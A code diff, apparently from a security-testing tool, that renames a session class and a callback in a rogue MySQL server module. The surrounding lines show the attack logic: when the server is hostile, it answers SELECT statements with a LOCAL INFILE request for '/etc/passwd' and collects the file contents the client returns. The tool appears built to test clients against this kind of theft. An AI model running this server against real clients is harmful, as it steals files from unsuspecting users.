@@ -7,7 +7,7 @@ sends the file, for any statement.
 import struct
 from collections.abc import Sequence
 
-from backwatch.attack.protocols.server import HostileServer, Session
+from backwatch.attack.protocols.server import HostileServer, ServerSession
 
 VERSION = b"8.0.36-demo"
 WANTED = b"/etc/passwd"
@@ -39,7 +39,7 @@ class MySQL(HostileServer):
     plugin = b"mysql_native_password"
     """Authentication plugin for logins."""
 
-    def serve(self, session: Session) -> None:
+    def serve(self, session: ServerSession) -> None:
         """Serve the handshake, TLS, the login, then statements."""
         wire = Packets(session)
         capabilities = _CAPABILITIES if self.offers_tls() else _CAPABILITIES & ~_SSL
@@ -82,7 +82,7 @@ class MySQL(HostileServer):
         if self.hostile and statement.lstrip()[:6].upper() == b"SELECT":
             wire.send(b"\xfb" + self.wanted)
             while given := wire.receive():  # until an empty packet
-                self.taken(given)
+                self.on_leak(given)
             wire.send(OK)
             return True
         return False
@@ -101,7 +101,7 @@ _EOF = b"\xfe" + struct.pack("<HH", 0, 2)
 class Packets:
     """MySQL packets: length, sequence number, payload."""
 
-    def __init__(self, session: Session) -> None:
+    def __init__(self, session: ServerSession) -> None:
         self._session = session
         self._number = 0
 
